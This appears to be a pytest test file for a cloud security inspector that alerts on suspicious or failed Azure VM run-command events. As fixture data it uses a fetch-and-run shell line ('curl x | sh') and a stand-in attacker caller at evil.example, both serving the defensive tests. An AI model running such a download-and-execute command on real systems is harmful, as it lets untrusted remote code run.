"""The SuspiciousFailure alerts: per record, from its own status, with its operation's payload verdict."""

from __future__ import annotations

from datetime import timedelta

from inspector.activity import ActivityRecord, Inspected
from tests.activity.builders import T0, event, routine, run_command, vm
from tests.activity.conftest import Ingest, types


async def _flag_everything(record: ActivityRecord) -> Inspected:
    return Inspected("insp-1", "malicious", ("VM_RunCommandSuspiciousScript",),
                     ("VM_RunCommandSuspiciousScript: script: downloads and runs a payload (800)",))


async def test_a_failed_run_command_whose_script_is_flagged(run: Ingest):
    from inspector.activity import ActivityLimits

    start = run_command(vm("vm-01"), T0, status="Started", correlation="rc-1", script=["curl x | sh"])
    end = event("Microsoft.Compute/virtualMachines/runCommand/action", vm("vm-01"), T0 + timedelta(minutes=2),
                status="Failed", correlation="rc-1")
    report = await run([start, end], ActivityLimits(), inspector=_flag_everything)
    assert types(report.alerts) == ["VM_RunCommandSuspiciousFailure", "VM_RunCommandSuspiciousScript"]
    failure = next(a for a in report.alerts if a.alert_type == "VM_RunCommandSuspiciousFailure")
    assert failure.inspection_id == "insp-1" and failure.verdict == "malicious"
    assert failure.end_time == "2026-01-01T00:02:00Z"


async def test_each_record_is_judged_by_its_own_status(run: Ingest):
    from inspector.activity import ActivityLimits

    ok = run_command(vm("vm-01"), T0, status="Succeeded", script=["curl x | sh"])
    report = await run([ok], ActivityLimits(), inspector=_flag_everything)
    assert types(report.alerts) == ["VM_RunCommandSuspiciousScript"]


async def test_an_unauthorized_run_command_by_a_new_caller(run: Ingest):
    await run(routine(14))
    refused = run_command(vm("vm-01"), T0 + timedelta(days=14, hours=1), status="Failed", sub_status="Forbidden",
                          caller="mallory@evil.example", ip="198.51.100.7")
    report = await run([refused])
    assert "VM_RunCommandSuspiciousFailure" in types(report.alerts)
